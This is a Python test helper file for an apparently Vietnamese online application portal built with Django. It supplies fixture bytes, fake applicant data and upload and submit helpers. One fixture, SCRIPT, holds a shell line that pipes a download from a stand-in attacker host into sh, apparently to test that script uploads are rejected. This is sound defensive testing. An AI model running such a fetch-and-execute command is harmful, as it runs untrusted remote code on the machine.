"""Bytes and helpers shared by the online submission tests."""
from django.core.files.uploadedfile import SimpleUploadedFile

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" + b"\x00" * 64
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def person(**overrides):
    data = {
        "applicant_name": "Phạm Thị Thu", "applicant_phone": "0908 765 432", "applicant_email": "thu@example.com",
        "applicant_address": "25 Nguyễn Du, Quận 1", "request_summary": "Xin miễn học phí cho cháu Minh.", "consent": "on",
    }
    data.update(overrides)
    return data


def two_documents():
    return {"document_1": SimpleUploadedFile("don.pdf", PDF, "application/pdf"),
            "document_2": SimpleUploadedFile("giay khai sinh.png", PNG, "image/png")}


def online_procedure(unit=None, online="full", **kwargs):
    from tests.factories import ProcedureFactory

    return ProcedureFactory(**({"unit": unit} if unit else {}), online=online, **kwargs)


def submit(client, procedure, data=None, files=None, address="10.0.0.1"):
    payload = {**(person() if data is None else data), **(two_documents() if files is None else files)}
    return client.post(f"/u/{procedure.unit.slug}/nop-ho-so/{procedure.code}/", payload, REMOTE_ADDR=address)
